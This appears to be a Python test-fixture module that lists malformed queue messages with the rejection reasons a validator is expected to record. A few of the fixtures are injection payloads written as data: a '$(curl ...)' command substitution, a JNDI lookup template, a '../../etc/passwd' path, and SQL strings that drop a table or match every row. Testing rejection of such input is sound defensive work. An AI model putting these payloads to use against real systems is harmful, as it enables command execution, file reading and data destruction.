"""Messages that cannot be processed, by kind: what a queue may bring, and what becomes of it."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from interfaces.queues import JobMessage, TaskMessage

UNKNOWN = "0" * 64


@dataclass(frozen=True)
class Kind:
    """A way to be malformed. `body` makes it about a job; `reason` is what is recorded, at least."""

    name: str
    body: Callable[[str], bytes]
    reason: str
    names_job: bool = True
    """Whether the job can be told from it."""


def well_formed(job_id: str, /, **changed: Any) -> dict[str, Any]:
    """The fields of a task message, which a job message has too; `...` leaves a field out."""
    message: dict[str, Any] = {"job_id": job_id, "run": 1, "stage": 1, "first": 0, "last": 0}
    return {key: value for key, value in (message | changed).items() if value is not ...}


def _with(name: str, reason: str, names_job: bool = True, **changed: Any) -> Kind:
    return Kind(name, lambda job_id: json.dumps(well_formed(job_id, **changed)).encode(), reason, names_job)


def _text(name: str, reason: str, text: str, names_job: bool = True) -> Kind:
    """`@` stands for a well-formed message, `#` for the job's id."""

    def body(job_id: str) -> bytes:
        message = json.dumps(well_formed(job_id))
        return text.replace("@", message).replace("#", job_id).encode()

    return Kind(name, body, reason, names_job)


def _id(name: str, change: Callable[[str], Any], reason: str = "job_id: ") -> Kind:
    """A message whose job id was changed beyond recognition."""
    return Kind(
        name, lambda job_id: json.dumps(well_formed(change(job_id))).encode(), reason, names_job=False
    )


NOT_JSON = [
    Kind("not UTF-8", lambda j: b"\xff\xfe\x00garbage", "not UTF-8 at byte 0", False),
    Kind("not UTF-8 in a field", lambda j: b'{"job_id": "%s", "x": "\xe9"}' % j.encode(), "not UTF-8"),
    Kind("UTF-16", lambda j: json.dumps(well_formed(j)).encode("utf-16"), "not UTF-8", False),
    Kind("bytes of a gzip file", lambda j: b"\x1f\x8b\x08\x00\x00\x00\x00\x00", "not UTF-8", False),
    _text("empty", "Invalid JSON", "", False),
    _text("white space", "Invalid JSON", " \r\n\t ", False),
    _text("NUL characters", "Invalid JSON", "\0\0\0", False),
    _text("a NUL character in a string", "Invalid JSON", '{"job_id": "#", "x": "\0"}'),
    _text("a byte order mark", "Invalid JSON", "\ufeff@"),
    Kind("truncated", lambda j: json.dumps(well_formed(j)).encode()[:-20], "Invalid JSON"),
    Kind("truncated in the id", lambda j: json.dumps(well_formed(j)).encode()[:40], "Invalid JSON", False),
    _text("a trailing comma", "Invalid JSON", '{"job_id": "#", "run": 1,}'),
    _text("a comment", "Invalid JSON", "@ // for you"),
    _text("two messages", "Invalid JSON", "@@"),
    _text("single quotes", "Invalid JSON", "{'job_id': '#', 'run': 1, 'stage': 1}"),
    _text("XML", "Invalid JSON", "<message><job_id>#</job_id></message>"),
    _text("YAML", "Invalid JSON", "job_id: #\nrun: 1\nstage: 1\n"),
    _text("a bare id", "Invalid JSON", "#"),
    _text("base64 of the other alphabet", "Invalid JSON", "eyJqb2JfaWQiOiAi-_8ifQ==", False),
    _text("100,000 brackets", "Invalid JSON", "[" * 100_000, False),
    _text("100,000 levels behind the id", "", '{"job_id": "#", "run": ' + "[" * 100_000),
    _text("64 KiB of garbage", "Invalid JSON", "x" * 65_536, False),
    _text("a lone surrogate", "Invalid JSON", '{"job_id": "#", "correlation_id": "\\ud800"}'),
    _text("NaN", "run", '{"job_id": "#", "run": NaN, "stage": 1, "first": 0, "last": 0}'),
    _text("a shell command", "Invalid JSON", "$(curl http://example.org/#)"),
    _text("a template", "Invalid JSON", "{{ job_id }} ${jndi:ldap://example.org/a}", False),
]
NOT_AN_OBJECT = [
    _text("a list", "(body)", "[@]"),
    _text("an empty list", "(body)", "[]", False),
    _text("null", "(body)", "null", False),
    _text("true", "(body)", "true", False),
    _text("a number", "(body)", "42", False),
    _text("a string", "(body)", '"#"'),
    _text("an empty object", "job_id: Field required", "{}", False),
]
WRONG_ID = [
    _with("an id missing", "job_id: Field required", False, job_id=...),
    _with("a null id", "job_id: ", False, job_id=None),
    _with("a number as id", "job_id: ", False, job_id=12345),
    _id("a short id", lambda j: j[:-1]),
    _id("a long id", lambda j: j + "0"),
    _id("an upper-case id", lambda j: "ABCDEF" + j[6:].upper()),
    _id("an id with a line feed within", lambda j: j[:32] + "\n" + j[32:]),
    _id("an id that is a path", lambda j: "../../etc/passwd"),
    _id("SQL in the id", lambda j: "'; DROP TABLE app.jobs; --"),
    _id("SQL around an id", lambda j: "' OR job_id LIKE '%"),
    _id("an id in full-width digits", lambda j: "".join(chr(0xFEE0 + ord(c)) for c in j)),
    _id("an id with a Cyrillic letter", lambda j: "\u0430" + j[1:]),
    _text("an id in a list", "job_id: ", '{"job_id": ["#"], "run": 1, "stage": 1, "first": 0, "last": 0}'),
    _text("an id further within", "job_id: Field required", '{"data": {"job_id": "#"}}'),
    _text("an id with a line feed behind", "job_id: ", '{"job_id": "#\\n", "run": 1, "stage": 1}'),
    _text("a key in capitals", "job_id: Field required", '{"JOB_ID": "#", "run": 1, "stage": 1}'),
]
WRONG_NUMBER = [
    _with("a run missing", "run: Field required", run=...),
    _with("a stage missing", "stage: Field required", stage=...),
    _with("a null run", "run: ", run=None),
    _with("text for a run", "run: ", run="one"),
    _with("digits in quotes", "run: ", run="1"),
    _with("a float for a run", "run: ", run=1.5),
    _with("a whole float for a stage", "stage: ", stage=1.0),
    _with("true for a run", "run: ", run=True),
    _with("a list for a stage", "stage: ", stage=[1]),
    _with("run 0", "run: ", run=0),
    _with("stage 0", "stage: ", stage=0),
    _with("a negative run", "run: ", run=-1),
    _with("a negative stage", "stage: ", stage=-7),
    _with("a run beyond 32 bits", "run: ", run=2**31),
    _with("a stage beyond 16 bits", "stage: ", stage=2**15),
    _text(
        "a run of 5,000 digits",
        "Invalid JSON: number out of range",
        '{"job_id": "#", "run": ' + "9" * 5000 + ', "stage": 1}',
    ),
    _text("an infinite stage", "stage", '{"job_id": "#", "run": 1, "stage": 1e999}'),
    _text("a run twice, the second wrong", "run: ", '{"job_id": "#", "run": 1, "run": "2", "stage": 1}'),
    _with("a number as correlation id", "correlation_id: ", correlation_id=5),
    _with("a long correlation id", "correlation_id: ", correlation_id="c" * 129),
]
ONLY_ON_TASKS = [
    Kind(
        "a job message", lambda j: JobMessage(job_id=j, run=1, stage=1).model_dump_json().encode(), "first: "
    ),
    _with("first missing", "first: Field required", first=...),
    _with("last missing", "last: Field required", last=...),
    _with("first after last", "first: is greater than last", first=3, last=1),
    _with("a negative index", "first: ", first=-1),
    _with("an index beyond 32 bits", "last: ", last=2**31),
    _with("text for an index", "last: ", last="0"),
    _with("a float for an index", "first: ", first=0.0),
    _with("true for an index", "first: ", first=True),
]
ON_BOTH = [*NOT_JSON, *NOT_AN_OBJECT, *WRONG_ID, *WRONG_NUMBER]
ON_TASKS = [*ON_BOTH, *ONLY_ON_TASKS]


def good_task_message(job_id: str, stage: int = 1, first: int = 0) -> str:
    """A well-formed message of the tasks queue."""
    return TaskMessage(job_id=job_id, run=1, stage=stage, first=first, last=first).model_dump_json()
